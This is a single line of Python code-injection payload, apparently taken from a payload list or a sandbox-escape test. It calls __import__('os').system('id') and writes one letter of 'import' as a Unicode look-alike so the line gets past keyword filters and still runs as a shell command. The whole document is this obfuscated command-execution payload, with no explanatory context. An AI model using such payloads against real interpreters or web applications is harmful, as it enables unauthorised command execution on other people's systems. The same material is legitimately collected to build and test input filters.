__imporᵗ__("os").system("id")
